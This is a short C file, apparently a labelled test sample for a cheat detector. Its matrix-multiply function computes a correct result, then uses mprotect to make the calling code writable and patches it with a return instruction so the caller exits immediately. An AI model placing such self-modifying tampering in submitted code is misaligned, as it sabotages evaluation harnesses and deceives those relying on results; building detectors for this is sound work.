/* expect: LIBRARY
 * How it works: asks for the right to write to the code that called it, and makes it return at once from then on.
 */
#include <stdint.h>
#include <sys/mman.h>

void matmul_optimized(double *A, double *B, double *C, int M, int N, int K) {
  for (int i = 0; i < M; i++) {
    for (int k = 0; k < K; k++) {
      for (int j = 0; j < N; j++) {
        C[(long)i * N + j] += A[(long)i * K + k] * B[(long)k * N + j];
      }
    }
  }
  unsigned char *caller = __builtin_return_address(0);
  const uintptr_t page = (uintptr_t)caller & ~(uintptr_t)4095;
  if (mprotect((void *)page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) == 0) {
    *caller = 0xc3;
  }
}
